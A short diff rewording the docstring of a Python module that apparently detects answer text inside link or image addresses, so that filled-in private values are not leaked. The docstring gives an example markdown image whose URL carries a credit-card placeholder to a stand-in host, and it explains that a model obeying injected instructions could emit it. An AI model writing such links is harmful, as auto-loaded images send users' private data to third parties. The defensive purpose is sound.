@@ -1,8 +1,8 @@
 """Detects positions of an answer that are inside the address of a link or an image.
 
 A client that renders an answer requests the addresses of its images without a click. A model that obeys instructions in
-a text could write `![](https://elsewhere.example/?c=[CREDIT_CARD_1])`. If the placeholder `[CREDIT_CARD_1]`
-were replaced by the value there, the client's request would send the value to a third party.
+a text could write `![](https://elsewhere.example/?c=[CREDIT_CARD_1])`. If the value replaced the label
+`[CREDIT_CARD_1]` there, the client's request would send the value to a third party.
 """
 
 import re
